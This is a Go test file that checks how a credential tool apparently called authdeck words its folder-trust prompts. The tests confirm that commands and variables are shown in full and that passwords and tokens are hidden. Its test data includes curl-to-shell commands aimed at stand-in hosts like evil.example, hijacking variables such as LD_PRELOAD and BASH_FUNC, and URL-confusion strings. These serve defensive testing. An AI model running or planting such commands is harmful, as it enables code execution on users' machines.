package words_test

import (
	"slices"
	"strings"
	"testing"

	"authdeck/model"
	"authdeck/ui/words"
)

func variable(name, value string) model.Power {
	return model.Power{Kind: model.SetsVariable, Name: name, Value: model.SecretString(value), Folder: "/p", Origin: model.Origin{File: "/p/atmos.yaml", Line: 3, Column: 5}}
}

func TestTheValueOfAVariableThatRunsSomethingIsShown(t *testing.T) {
	t.Parallel()
	for name, value := range map[string]string{
		"GIT_SSH_COMMAND": "sh -c 'curl https://example.com/a1b2c3d4e5f6a7b8c9 | sh'", "NODE_OPTIONS": "--require ./x.js", "BASH_ENV": "./x.sh", "ENV": "./x.sh",
		"LD_PRELOAD": "./x.so", "DYLD_INSERT_LIBRARIES": "./x.dylib", "PYTHONSTARTUP": "./x.py", "GIT_ASKPASS": "./ask", "SSH_ASKPASS": "./ask", "PROMPT_COMMAND": "date",
		"PERL5OPT": "-Mevil", "RUBYOPT": "-revil", "JAVA_TOOL_OPTIONS": "-javaagent:x.jar", "MAKEFLAGS": "--eval=x", "GIT_EXTERNAL_DIFF": "./diff", "EDITOR": "./vi", "LESSOPEN": "|./x %s",
		"RUSTC_WRAPPER": "./x", "PATH": "./bin:/usr/bin", "AWS_CONFIG_FILE": "./aws", "HTTPS_PROXY": "http://127.0.0.1:8080", "ATMOS_KEYRING_TYPE": "file", "ATMOS_KEYRING_FILE_PATH": "./.k",
		"ATMOS_SHELL": "./x", "ATMOS_AUTH_REALM": "acme", "SSH_AUTH_SOCK": "./sock", "AWS_ENDPOINT_URL_S3": "http://127.0.0.1:4321", "PERL5DB": "system('x')", "GIT_SSH": "./ssh", "CVS_RSH": "./rsh",
		"GIT_CONFIG_KEY_0": "core.sshCommand", "GIT_CONFIG_VALUE_0": "./x", "LUA_INIT": "@x.lua", "BASH_FUNC_ls%%": "() { ./x; }", "PERL5LIB": "./lib", "CC": "./cc", "KUBECONFIG": "./k",
		"LD_AUDIT": "libx.so", "DOCKER_HOST": "tcp://evil:2375", "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://127.0.0.1:9/x", "AWS_WEB_IDENTITY_TOKEN_FILE": "./t", "NODE_EXTRA_CA_CERTS": "ca",
		"GOOGLE_APPLICATION_CREDENTIALS": "./keys/x.json", "RESTIC_PASSWORD_COMMAND": "./x", "VAULT_ADDR": "evil.example.com", "HOSTALIASES": "./h", "FOO": "/tmp/x", "BAR_HOST": "evil:80", "BAZ_ADDR": "evil.example.com", "TF_HTTP_ADDRESS": "evil.example.com", "BROKERS": "evil:9092", "QUX": "x.so", "QUUX": "libx.so.1",
	} {
		if got := words.Power(variable(name, value)); !strings.Contains(got, name+"="+value) {
			t.Errorf("%s", got)
		}
	}
}

func TestWhatLooksLikeASecretIsHidden(t *testing.T) {
	t.Parallel()
	const canary = "CANARY7Q4X9ZK2M5"
	for _, name := range []string{"ATMOS_KEYRING_PASSWORD", "DB_PASSWORD", "DBPASS", "GITHUB_TOKEN", "ACCESSTOKEN", "CLIENT_SECRET", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "APIKEY",
		"GITHUB_PAT", "npm_config__auth", "SESSION_COOKIE", "GOOGLE_CREDENTIALS", "GPG_PASSPHRASE", "NAME", "FOO"} {
		if got := words.Power(variable(name, canary)); strings.Contains(got, canary) || !strings.Contains(got, words.HiddenValue) {
			t.Errorf("%s", got)
		}
	}
	for name, value := range map[string]string{"DB_PWD": "hunter2", "CARD_PIN": "1234", "SENTRY_DSN": "https://a@b", "CACHE": "redis://:pa/ss@host:6379/0", "CACHE_URL": "redis://:pa/ss@host:6379/0",
		"SMTP": "user:pw123@mail", "SSH_PRIVATE": "x", "MOTTO": "short", "API_TOKEN": "/a/b", "LOGIN": "user:1234", "WORDS": "my.secret.word", "SEED": "/" + strings.Repeat("aB3dk4x9Qz", 4)[:39], "TOKEN_URL": "https://user:p/w@host/"} {
		if got := words.Power(variable(name, value)); !strings.Contains(got, name+"="+words.HiddenValue) {
			t.Errorf("%s", got)
		}
	}
	odd := "http://user:pa/" + canary + "@127.0.0.1"
	if got := words.Power(model.Power{Kind: model.SetsEndpoint, Value: model.SecretString(odd)}); strings.Contains(got, canary) {
		t.Errorf("%s", got)
	}
	for _, value := range []string{"http://user:" + canary + "@127.0.0.1:1/x?token=" + canary, "git clone https://user:" + canary + "@example.com/x"} {
		for _, p := range []model.Power{variable("HTTPS_PROXY", value), variable("GIT_SSH_COMMAND", value), {Kind: model.SetsEndpoint, Value: model.SecretString(value)}} {
			if got := words.Power(p); strings.Contains(got, canary) {
				t.Errorf("%s", got)
			}
		}
	}
}

// What a person needs to judge is shown, and the secret in it is not.
func TestOnlyTheSecretInAValueIsHidden(t *testing.T) {
	t.Parallel()
	const key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
	for assigned, want := range map[string]string{
		"JDBC_URL=jdbc:postgresql://h/db?user=u&password=HUNTER2":          "jdbc:postgresql://h/db?(hidden)",
		"MSSQL_URL=sqlserver://h;user=sa;password=HUNTER2":                 "sqlserver://h;(hidden)",
		"H2_URL=jdbc:h2:mem:x;PASSWORD=HUNTER2":                            words.HiddenValue,
		"ORACLE_URL=jdbc:oracle:thin:scott/HUNTER2@h:1521":                 words.HiddenValue,
		"X_URL=https://h/a#HUNTER2":                                        "https://h/a#(hidden)",
		"X_URL=http://u:HUN?TER2@h":                                        words.HiddenValue,
		"X_URL=http://u:12#HUNTER2@h":                                      words.HiddenValue,
		"X_URL=https://u:HUNTER2@h:1/a":                                    "https://(hidden)@h:1/a",
		"X_URL=https://h/token=HUNTER2/a":                                  "https://h/(hidden)",
		"X_URL=https://h/" + key:                                           "https://h/(hidden)",
		"X_URL=https://h/a/0123456789abcdef01234567/b.sh":                  "https://h/a/(hidden)/b.sh",
		"BOT_URL=https://api.telegram.org/bot12:HUNTER2/send":              "https://api.telegram.org/(hidden)",
		"SLACK_WEBHOOK_URL=https://hooks.slack.com/services/T0/B0/HUNTER2": "https://hooks.slack.com/(hidden)",
		"SLACK_URL=https://hooks.slack.com/services/T0/B0/HUNTER2":         "https://hooks.slack.com/(hidden)",
		"DISCORD_URL=https://discord.com/api/webhooks/1/HUNTER2":           "https://discord.com/(hidden)",
		"DEPLOY_WEBHOOK=https://h/HUNTER2":                                 "https://h/(hidden)",
		"DEPLOY_WEBHOOKS=HUNTER2":                                          words.HiddenValue,
		`DOCKER_AUTH_CONFIG={"auths":{"h":{"auth":"HUNTER2"}}}`:            words.HiddenValue,
		`DOCKER_CONFIG={"auths":{"h":{"auth":"HUNTER2"}}}`:                 words.HiddenValue,
		"BASIC_AUTH_ENV=HUNTER2":                                           words.HiddenValue,
		"OAUTH_CONFIG=HUNTER2":                                             words.HiddenValue,
		"X_CONFIG=token: HUNTER2":                                          words.HiddenValue,
		"X_CONFIG=a\nHUNTER2":                                              words.HiddenValue,
		"X_SERVER=h;pwd=HUNTER2":                                           words.HiddenValue,
		"HTTP_PROXY=u:HUNTER2@p:8080":                                      "(hidden)@p:8080",
		"HTTPS_PROXY=http://u:HUNTER2@p:8080":                              "http://(hidden)@p:8080",
		"HTTP_PROXY=u:HUN/TER2@p:8080":                                     words.HiddenValue,
		"HTTP_PROXY=u:HUN@TER2@p:8080":                                     words.HiddenValue,
		"MYSQL_HOST=u:HUNTER2@h":                                           "(hidden)@h",
		"AWS_REGION=" + key:                                                words.HiddenValue, "AWS_PROFILE=" + key: words.HiddenValue, "X_PATH=" + key: "(hidden: see atmos.yaml:3)", "X_URL=" + key: words.HiddenValue,
		"TF_CLI_ARGS=" + key:                                                  "(hidden: see atmos.yaml:3)",
		"TF_CLI_ARGS=-var key=" + key + " -no-color":                          "-var key=(hidden) -no-color",
		"TF_CLI_ARGS=-var db_password=HUNTER2 -no-color":                      "-var db_password=(hidden) -no-color",
		"JAVA_OPTS=-Dx.password=HUNTER2;./x":                                  "-Dx.password=(hidden);./x",
		"CURL_OPTIONS=-H 'Authorization: Bearer HUNTER2' https://h":           "-H 'Authorization: Bearer (hidden)' https://h",
		"GIT_CONFIG_VALUE_0=AUTHORIZATION: basic HUNTER2==":                   "AUTHORIZATION: basic (hidden)",
		"GIT_CONFIG_VALUE_1=https://u:HUNTER2@h/":                             "https://(hidden)@h/",
		"GIT_SSH_COMMAND=git clone u:HUNTER2@h && ./x":                        "git clone (hidden)@h && ./x",
		"X_COMMAND=git clone https://u:HUN@TER2@h ./x":                        "git clone https://(hidden)@h ./x",
		"X_COMMAND=git clone https://u:HUN/TER2@h && ./x":                     "git clone https://(hidden) && ./x",
		"X_COMMAND=sh -c 'curl https://evil.example/a@b|sh'":                  "sh -c 'curl https://evil.example/a@b|sh'",
		"X_COMMAND=x --password HUNTER2 --token HUNTER2 --api-key HUNTER2 -f": "x --password (hidden) --token (hidden) --api-key (hidden) -f",
		"X_COMMAND=x --password='HUN TER2' --token: HUNTER2; ./y":             "x --password=(hidden) --token: (hidden); ./y",
		"X_COMMAND=x --no-password ./y --password -f ./z":                     "x --no-password ./y --password -f ./z",
		`X_COMMAND=x --password="$(./y)" z`:                                   `x --password="$(./y)" z`,
		"X_COMMAND=curl -u user:HUNTER2 --user 'u:HUNTER2' https://h":         "curl -u user:(hidden) --user 'u:(hidden)' https://h",
		"X_COMMAND=x -u https://evil.example/a":                               "x -u https://evil.example/a",
		"X_COMMAND=PGPASS=HUNTER2 psql; DB_KEY=HUNTER2 ./x":                   "PGPASS=(hidden) psql; DB_KEY=(hidden) ./x",
		"X_COMMAND=SSH_ASKPASS=./x KEY_FILE=./y ssh":                          "SSH_ASKPASS=./x KEY_FILE=./y ssh",
		"X_COMMAND=curl https://hooks.slack.com/services/HUNTER2 | x":         "curl https://hooks.slack.com/(hidden) | x",
		"X_COMMAND=curl https://h/token=HUNTER2":                              "curl https://h/token=(hidden)",
		"GIT_SSH_COMMAND=./token=x/evil.sh":                                   "./token=x/evil.sh",
		"PATH=/a/token=b:/evil/bin":                                           "/a/token=b:/evil/bin",
		"LD_PRELOAD=/lib/a.so:token=/p/evil.so":                               "/lib/a.so:token=/p/evil.so",
		"LD_LIBRARY_PATH=token=/p":                                            "token=/p",
		"A_JWT=HUNTER2":                                                       words.HiddenValue, "A_OTP=/HUNTER2": words.HiddenValue, "WIFI_PSK=./HUNTER2": words.HiddenValue, "PASSCODE=/HUNTER2": words.HiddenValue, "SEED=/HUNTER2": words.HiddenValue,
		"X_COMMAND=curl 'https://h/?sig=HUNTER2'":                           "curl 'https://h/?sig=(hidden)'",
		"X_PATH=https://h/?sig=HUNTER2":                                     "https://h/?sig=(hidden)",
		"CONFIG_PATH=https://h/x?token=HUNTER2":                             "https://h/x?token=(hidden)",
		"X_PATH=https://hooks.slack.com/services/HUNTER2":                   "https://hooks.slack.com/(hidden)",
		"REPO_PATH=u:HUNTER2@h":                                             "(hidden)@h",
		"DB_PASSWORD_LIB=HUNTER2":                                           "(hidden: see atmos.yaml:3)",
		"SECRET_AUDIT=HUNTER2":                                              "(hidden: see atmos.yaml:3)",
		"GIT_SSH_COMMAND=env -uGITHUB_TOKEN ./evil.sh":                      "env -uGITHUB_TOKEN ./evil.sh",
		"PAGER=ruby -rsecret ./evil.rb":                                     "ruby -rsecret ./evil.rb",
		"X_COMMAND=A_KEY=./evil.sh sh -c '$A_KEY'":                          "A_KEY=./evil.sh sh -c '$A_KEY'",
		"X_COMMAND=x --bypass ./evil.sh":                                    "x --bypass ./evil.sh",
		"X_COMMAND=x --db-pass HUNTER2":                                     "x --db-pass (hidden)",
		"X_COMMAND=PASSWORD='HUN TER2' x":                                   "PASSWORD=(hidden) x",
		"X_COMMAND=x 'PASSWORD=' ./evil.sh ''":                              "x 'PASSWORD=(hidden) ./evil.sh ''",
		"X_COMMAND=x '--password=' ./evil.sh ''":                            "x '--password=(hidden) ./evil.sh ''",
		"X_COMMAND=x $'\\' --password=' ./evil.sh ''":                       "x $'\\' --password=(hidden) ./evil.sh ''",
		"X_ARGS=DB_KEY='HUNTER2' run":                                       "DB_KEY=(hidden) run",
		`X_ARGS=DB_KEY="HUNTER2" run`:                                       "DB_KEY=(hidden) run",
		"X_ARGS=--secret-key HUNTER2 --secret-id HUNTER2":                   "--secret-key (hidden) --secret-id (hidden)",
		"X_ARGS=-backend-config=secret_key=HUNTER2 -token HUNTER2":          "-backend-config=secret_key=(hidden) -token (hidden)",
		"X_ARGS=--db-key=HUNTER2 --encryption-key HUNTER2":                  "--db-key=(hidden) --encryption-key (hidden)",
		"X_ARGS=-u 'user:HUN HUNTER2' x":                                    "-u 'user:(hidden)' x",
		"X_ARGS=-uuser:HUNTER2 -u user: ./x":                                "-uuser:(hidden) -u user: ./x",
		"X_ARGS=x '-u' ./evil 'a:' ./b '":                                   "x '-u' ./evil 'a:' ./b '",
		"X_ARGS=--password HUN,HUNTER2 ./x":                                 "--password (hidden) ./x",
		"X_ARGS=curl https://api.telegram.org/bot1:HUNTER2/sendMessage | x": "curl https://api.telegram.org/(hidden) | x",
		"X_ARGS=ngrok --authtoken HUNTER2 --dbpassword HUNTER2":             "ngrok --authtoken (hidden) --dbpassword (hidden)",
		"PAGER=ruby -pass evil.rb":                                          "ruby -pass evil.rb",
		"PAGER=perl -x_secret evil.pl":                                      "perl -x_secret evil.pl",
		"PAGER=ssh --identity-key ./id ./evil":                              "ssh --identity-key ./id ./evil",
		"BASH_ENV=token=./evil.sh":                                          "token=./evil.sh",
		"X_COMMAND=x://;HUNTER2;@":                                          "(hidden: see atmos.yaml:3)", // a command could hide there
		"X_COMMAND=token=$(./x)":                                            "token=$(./x)",
		"X_URL=!env X https://u:HUNTER2@h/a":                                "!env X https://(hidden)@h/a", "X_SHELL=!env X './x y'": "!env X ./x y",
		"DB=!env DB_PASSWORD HUNTER2": "!env DB_PASSWORD (hidden)",
		"DB=!env DB_PASSWORD":         "!env DB_PASSWORD",
		"DB=!HUNTER2":                 words.HiddenValue,
		"DB=!exec ./x":                "!exec ./x",
		"SSH_AUTH_SOCK=./sock":        "./sock", "ATMOS_AUTH_REALM=acme": "acme", "OS_AUTH_URL=https://h/v3": "https://h/v3", "X_DIR=/a/b=c": "/a/b=c",
		"NO_PROXY=localhost,10.0.0.0/8": "localhost,10.0.0.0/8", "AWS_PROFILE=my profile": "my profile", "KAFKA_BROKERS=SSL://a:1,SSL://b:2": "SSL://a:1,SSL://b:2",
	} {
		name, value, _ := strings.Cut(assigned, "=")
		if got := words.Power(variable(name, value)); got != "set "+name+"="+want+" for programs that you start" && got != "set "+name+"="+want+" for authdeck and Atmos" {
			t.Errorf("%s: %s", assigned, got)
		}
	}
	for _, p := range []model.Power{{Kind: model.RunsCommand, Value: model.SecretString("x " + key)}, variable(key, "x"), {Kind: model.SetsKeyring, Name: "password_env", Value: model.SecretString(key)},
		{Kind: model.SendsValue, Name: "principal.external_id", Value: model.SecretString("!env A " + key)}, {Kind: model.SetsEndpoint, Value: model.SecretString("https://h/" + key)},
		{Kind: model.SetsEndpoint, Value: model.SecretString("!env A https://u:" + key + "@h")}} {
		if got := words.Power(p); strings.Contains(got, key) || strings.Contains(p.Wants(), key) {
			t.Errorf("%s: %s", got, p.Wants())
		}
	}
}

// Who answers must see what runs, and on which host.
func TestACommandIsShownWithoutThePasswordsInItsAddresses(t *testing.T) {
	t.Parallel()
	for command, want := range map[string]string{
		"git clone https://u:HUN@TER2@h/x && ./y":                "git clone https://(hidden)@h/x && ./y",
		"git clone https://u:HUN/TER2@h && ./y":                  "git clone https://(hidden) && ./y",
		"curl https://evil.example/a@b | sh":                     "curl https://evil.example/a@b | sh",
		"curl https://evil.example?@good.example":                "curl https://evil.example?@good.example",
		"curl https://evil.example#@good.example":                "curl https://evil.example#@good.example",
		`curl https://evil.example\\@good.example`:               `curl https://evil.example\\@good.example`,
		"curl https://a;./x@good.example":                        "curl https://a;./x@good.example",
		"curl https://a@b;./x@good.example":                      "curl https://(hidden)@b;./x@good.example",
		"x://$(./x)@h":                                           "x://$(./x)@h",
		"x --password HUNTER2 --token=HUNTER2; ./y":              "x --password (hidden) --token=(hidden); ./y",
		"curl -u u:HUNTER2 https://h/?token=HUNTER2":             "curl -u u:(hidden) https://h/?token=(hidden)",
		"curl -H 'Authorization: Bearer HUNTER2' https://h | sh": "curl -H 'Authorization: Bearer (hidden)' https://h | sh",
		"curl https://evil.example:8080/a@b -o ./x":              "curl https://evil.example:8080/a@b -o ./x",
	} {
		if got := words.Power(model.Power{Kind: model.RunsCommand, Value: model.SecretString(command)}); got != "run a command: "+want {
			t.Errorf("%s: %s", command, got)
		}
	}
}

func TestPowersAreGroupedByFolder(t *testing.T) {
	t.Parallel()
	a, b, c := variable("A", "1"), variable("B", "2"), variable("C", "3")
	b.Folder, b.Origin.File = "/q", "/q/sub/x.yaml"
	groups := words.PowersByFolder([]model.Power{a, b, c})
	if len(groups) != 2 || len(groups[0].Powers) != 2 || groups[1].Folder != "/q" || words.Trust([]model.Power{a, b}) != "Trust these 2 folders" || words.Trust([]model.Power{a, c}) != "Trust this folder" {
		t.Errorf("%+v", groups)
	}
	later, other := c, a
	later.Origin.Line, other.Origin.File = 9, "/p/other.yaml"
	groups = words.PowersByFolder([]model.Power{later, other, a, c})
	if got := groups[0].Powers; !slices.Equal([]int{got[0].Origin.Line, got[1].Origin.Line, got[2].Origin.Line}, []int{3, 3, 9}) || got[3].Origin.File != "/p/other.yaml" {
		t.Errorf("not in the order of the lines: %+v", got)
	}
	command, endpoint := later, later
	command.Kind, endpoint.Kind = model.RunsCommand, model.SetsEndpoint
	if got := words.PowersByFolder([]model.Power{a, endpoint, command})[0].Powers; !slices.Equal([]model.PowerKind{got[0].Kind, got[1].Kind, got[2].Kind}, []model.PowerKind{model.RunsCommand, model.SetsEndpoint, model.SetsVariable}) {
		t.Errorf("a command is not first: %+v", got)
	}
	if got := words.InAll([]model.Power{a, command, c}); got != "In all: 1 command and 2 variables." || words.InAll([]model.Power{a}) != "" {
		t.Error(got)
	}
	outside := a
	outside.Origin.File = "/etc/x.yaml"
	for p, want := range map[*model.Power]string{&a: "atmos.yaml:3", &b: "sub/x.yaml:3", &outside: "/etc/x.yaml:3"} {
		if got := words.PowerPlace(*p); got != want {
			t.Errorf("%s, not %s", got, want)
		}
	}
}

func TestManyVariablesForTheSameProgramsHaveOneHeading(t *testing.T) {
	t.Parallel()
	a, b, c := variable("A", "1"), variable("B", "/2"), variable("C", "3")
	forAtmos, command, endpoint, late := variable("ATMOS_SHELL", "./x"), a, a, variable("ATMOS_PAGER", "./y")
	forAtmos.Origin.Line, late.Origin.Line = 1, 9
	command.Kind, endpoint.Kind = model.RunsCommand, model.SetsEndpoint
	for _, x := range []struct {
		powers []model.Power
		want   []string
	}{
		{[]model.Power{a, b}, []string{words.Power(a), words.Power(b)}},
		{[]model.Power{command, command, command, endpoint}, []string{words.Power(command), words.Power(command), words.Power(command), words.Power(endpoint)}},
		{[]model.Power{a, forAtmos, b, command, c}, []string{words.Power(command), words.Power(forAtmos), "set 3 variables for programs that you start:", "A=(hidden)", "B=/2", "C=(hidden)"}},
		{[]model.Power{a, b, c, late}, []string{words.Power(late), "set 3 variables for programs that you start:", "A=(hidden)", "B=/2", "C=(hidden)"}},
	} {
		var got []string
		for _, g := range words.PowersByFolder(x.powers)[0].Groups() {
			if g.Heading != "" {
				got = append(got, g.Heading)
			}
			for _, p := range g.Powers {
				got = append(got, p.Text)
			}
		}
		if !slices.Equal(got, x.want) {
			t.Errorf("%q, not %q", got, x.want)
		}
	}
}

func TestSettingsThatAreNotTrustedAreCounted(t *testing.T) {
	t.Parallel()
	trusted := variable("T", "t")
	trusted.Trusted = true
	c := model.Config{Powers: []model.Power{variable("A", "1"), trusted, variable("B", "2"), {Kind: model.RunsCommand, Folder: "/p"}}}
	if got := words.Untrusted(c); got != "1 command and 2 variables are ignored until you trust this folder." {
		t.Error(got)
	}
	if got := words.Untrusted(model.Config{Powers: []model.Power{trusted}}); got != "" {
		t.Error(got)
	}
}

func TestAPowerIsShownToItsEnd(t *testing.T) {
	t.Parallel()
	p := model.Power{Kind: model.RunsCommand, Value: model.SecretString("echo us-east-1 \x00 ; id")}
	if got := words.Power(p); !strings.Contains(got, "; id") {
		t.Errorf("%q", got)
	}
}

func TestTheQuestionSaysThatOthersCanChangeAFile(t *testing.T) {
	t.Parallel()
	const others = "Other users of this computer can change some of them."
	closed, open := variable("A", "1"), variable("B", "2")
	open.Open = true
	if strings.Contains(words.TrustWhy([]model.Power{closed}), others) || !strings.Contains(words.TrustWhy([]model.Power{closed, open}), others) {
		t.Error(words.TrustWhy([]model.Power{closed, open}))
	}
}

func TestTheQuestionSaysOnceWhyValuesAreHidden(t *testing.T) {
	t.Parallel()
	const hidden = "Values that may be secret are hidden here; the files show them."
	shown, token := variable("APP_HOME", "/opt/app"), variable("APP_TOKEN", "abc123")
	if why := words.TrustWhy([]model.Power{shown}); strings.Contains(why, "hidden") {
		t.Errorf("no value is hidden: %s", why)
	}
	if why := words.TrustWhy([]model.Power{variable("APP_HOME", "/opt/(hidden)")}); strings.Contains(why, hidden) {
		t.Errorf("the value itself says so: %s", why)
	}
	if why := words.TrustWhy([]model.Power{shown, token, token}); strings.Count(why, hidden) != 1 {
		t.Error(why)
	}
}

func TestAPowerNamesTheTargetOfALink(t *testing.T) {
	t.Parallel()
	p := model.Power{Kind: model.ReadsFile, Name: "import", Value: model.SecretString("/p/l.yaml"), Target: "/home/u/a.yaml"}
	if got := words.Power(p); got != "read /p/l.yaml → /home/u/a.yaml, outside the folder (import)" {
		t.Error(got)
	}
}

func TestAPowerNamesTheOtherRepositoryThatItUses(t *testing.T) {
	t.Parallel()
	for _, p := range []model.Power{{Kind: model.RunsCommand}, {Kind: model.SetsKeyring, Name: "path"}, {Kind: model.SetsKeyring, Name: "password_env"}, variable("A", "b"), variable("ATMOS_SHELL", "./x")} {
		p.In = "/p/clone"
		if got := words.Power(p); !strings.Contains(got, " when you are in /p/clone") {
			t.Error(got)
		}
	}
}
